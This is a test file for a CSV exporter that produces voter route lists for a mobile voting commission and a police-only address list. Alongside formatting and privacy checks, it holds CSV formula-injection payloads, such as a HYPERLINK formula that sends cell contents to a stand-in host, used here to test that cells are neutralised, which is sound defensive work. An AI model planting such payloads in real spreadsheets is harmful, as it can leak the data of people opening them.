import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { formatAddress, routeCsv, safeCell, type RouteCsvHeaders, type RouteCsvRow } from '#core/sections/route-csv';

const HEADERS: RouteCsvHeaders = {
  order: '№',
  references: 'Референции',
  forms: 'Бланки',
  fullName: 'Име',
  address: 'Адрес',
  district: 'Район',
  section: 'Секция',
  phone: 'Телефон',
  notes: 'Бележки',
};

const ROWS: RouteCsvRow[] = [
  {
    references: ['K7M2P-Q9RTX', 'ABCDE-FGHJK'],
    forms: ['30-ЕП', '31-НС'],
    fullName: 'Мария Петрова',
    address: { street: 'ж.к. Младост 1', block: '12', entrance: 'А', floor: '3', apartment: '9' },
    district: 'Младост',
    section: '234600001',
    phone: '+359 888 123 456',
    notes: 'звънец "2", куче',
  },
  {
    references: ['MNPQR-STWXY'],
    forms: ['31-НС'],
    fullName: 'Иван Иванов',
    address: { street: 'ул. Шипка', number: '10А' },
    district: 'Младост',
    section: '234600001',
  },
];

const read = (csv: string) => parse(csv.slice(1), { relax_column_count: true }) as string[][];

describe('route CSV', () => {
  it('gives the police order, address, district and section only, exactly', () => {
    expect(routeCsv(ROWS, 'police', HEADERS)).toBe(
      '\uFEFF"№","Адрес","Район","Секция"\r\n' +
        '"1","ж.к. Младост 1, бл. 12, вх. А, ет. 3, ап. 9","Младост","234600001"\r\n' +
        '"2","ул. Шипка № 10А","Младост","234600001"\r\n',
    );
  });

  it('gives a district the full list for the mobile commission, exactly', () => {
    const expected =
      '\uFEFF"№","Референции","Бланки","Име","Адрес","Район","Телефон","Бележки"\r\n' +
      `"1","K7M2P-Q9RTX; ABCDE-FGHJK","30-ЕП; 31-НС","Мария Петрова","ж.к. Младост 1, бл. 12, вх. А, ет. 3, ап. 9","Младост","'+359 888 123 456","звънец ""2"", куче"\r\n` +
      '"2","MNPQR-STWXY","31-НС","Иван Иванов","ул. Шипка № 10А","Младост","",""\r\n';
    expect(routeCsv(ROWS, 'district', HEADERS)).toBe(expected);
    expect(routeCsv(ROWS, 'city', HEADERS)).toBe(expected);
  });

  it('starts with a byte-order mark and a header row, and ends every line with CRLF', () => {
    const csv = routeCsv([], 'district', HEADERS);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv).toBe('\uFEFF"№","Референции","Бланки","Име","Адрес","Район","Телефон","Бележки"\r\n');
    expect(routeCsv(ROWS, 'police', HEADERS).replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('never gives the police a name, phone, reference, form or note', () => {
    const csv = routeCsv(ROWS, 'police', HEADERS);
    for (const secret of ['Мария', 'Иван Иванов', '888', 'K7M2P', 'MNPQR', '30-ЕП', 'звънец']) expect(csv).not.toContain(secret);
    for (const row of read(csv)) expect(row).toHaveLength(4);
  });

  it('has no place for a personal number', () => {
    const row: RouteCsvRow = {
      ...ROWS[1]!,
      // @ts-expect-error: a route row has no personal-number field, so none can reach a list
      idNumber: '7501020018',
    };
    expect(routeCsv([row], 'district', HEADERS)).not.toContain('7501020018');
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])('neutralises a cell starting with %j', (start) => {
    const payload = `${start}HYPERLINK("https://example.com/?x="&A1)`;
    const row: RouteCsvRow = { ...ROWS[1]!, fullName: payload, notes: payload, address: { street: payload } };
    const full = read(routeCsv([row], 'district', HEADERS))[1]!;
    expect([full[3], full[7]]).toEqual([`'${payload}`, `'${payload}`]);
    // The address is trimmed first, so a leading tab or CR may be gone rather than quoted.
    const police = read(routeCsv([row], 'police', HEADERS))[1]!;
    for (const cell of [...full, ...police]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(police[1]).toContain('HYPERLINK');
  });

  it('leaves safe cells alone and neutralises a formula at the start or after a separator only', () => {
    expect(safeCell('ул. Шипка')).toBe('ул. Шипка');
    expect(safeCell('a=b+c')).toBe('a=b+c');
    expect(safeCell('Иван;=HYPERLINK("http://x")')).toBe(`Иван;'=HYPERLINK("http://x")`);
    expect(safeCell('Иван; +1')).toBe("Иван; '+1");
    expect(safeCell('a,@SUM(A1)|-2\t=3')).toBe("a,'@SUM(A1)|'-2\t'=3");
    expect(safeCell('')).toBe('');
    expect(safeCell('-')).toBe("'-");
    expect(safeCell('@SUM(A1)')).toBe("'@SUM(A1)");
  });

  it('with `;` and `=` in names and streets: read with `;` as the separator (Bulgarian Excel), no cell starts a formula, and read with `,` each value stays in its own cell', () => {
    const row: RouteCsvRow = {
      ...ROWS[1]!,
      fullName: 'Иван;=HYPERLINK("https://example.com")',
      address: { street: 'ул. Шипка;=1+1', number: '6' },
      notes: 'звънец;@SUM(A1)',
    };
    const csv = routeCsv([row], 'district', HEADERS);
    const bySemicolon = parse(csv.slice(1), { relax_column_count: true, delimiter: ';', relax_quotes: true }) as string[][];
    for (const cell of bySemicolon.flat()) expect(cell.trim()).not.toMatch(/^[=+\-@]/);
    const byComma = read(csv)[1]!;
    expect(byComma[3]).toBe(`Иван;'=HYPERLINK("https://example.com")`);
    expect(byComma[4]).toBe("ул. Шипка;'=1+1 № 6");
    expect(byComma[7]).toBe("звънец;'@SUM(A1)");
  });

  it('quotes commas, quotes and line breaks so every stop stays one record', () => {
    const notes = 'a, "b"\nc\rd\r\ne';
    const row: RouteCsvRow = { ...ROWS[1]!, notes, fullName: 'Петров, Иван "Ванката"' };
    const records = read(routeCsv([row, row], 'district', HEADERS));
    expect(records).toHaveLength(3);
    expect(records[1]![3]).toBe('Петров, Иван "Ванката"');
    expect(records[1]![7]).toBe(notes);
  });
});

describe('formatAddress', () => {
  it('writes street, number, block, entrance, floor and apartment with Bulgarian labels, skipping blanks', () => {
    expect(formatAddress({ street: 'ж.к. Младост 1', block: '12', entrance: 'А', floor: '3', apartment: '9' })).toBe(
      'ж.к. Младост 1, бл. 12, вх. А, ет. 3, ап. 9',
    );
    expect(formatAddress({ street: ' ул. Шипка ', number: '6', block: ' ', floor: '2' })).toBe('ул. Шипка № 6, ет. 2');
  });

  it('names a town or village first, so the police find a voter outside the city', () => {
    expect(formatAddress({ settlement: 'Лозен', street: 'ул. Първа', number: '3' })).toBe('Лозен, ул. Първа № 3');
  });
});
